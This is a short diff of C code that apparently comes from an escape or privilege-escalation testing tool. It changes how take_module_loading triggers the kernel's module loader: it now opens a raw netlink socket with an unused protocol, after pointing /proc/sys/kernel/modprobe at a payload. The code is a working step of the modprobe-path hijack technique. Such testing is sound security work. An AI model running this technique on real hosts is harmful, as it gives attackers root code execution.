@@ -52,10 +52,10 @@ static long take_core_dumps(void) {
     return taken;
 }
 static long take_module_loading(void) {
-    enum { FAMILY_OF_A_MODULE = AF_NFC };
+    enum { PROTOCOL_OF_NO_MODULE = 31 };
     if (!make_payload("modprobe") || write_text("/proc/sys/kernel/modprobe", payload) < 0)
         return -1;
-    close(socket(FAMILY_OF_A_MODULE, SOCK_RAW, 0));
+    close(socket(AF_NETLINK, SOCK_RAW, PROTOCOL_OF_NO_MODULE));
     long taken = await_proof();
     write_text("/proc/sys/kernel/modprobe", "/sbin/modprobe");
     return taken;
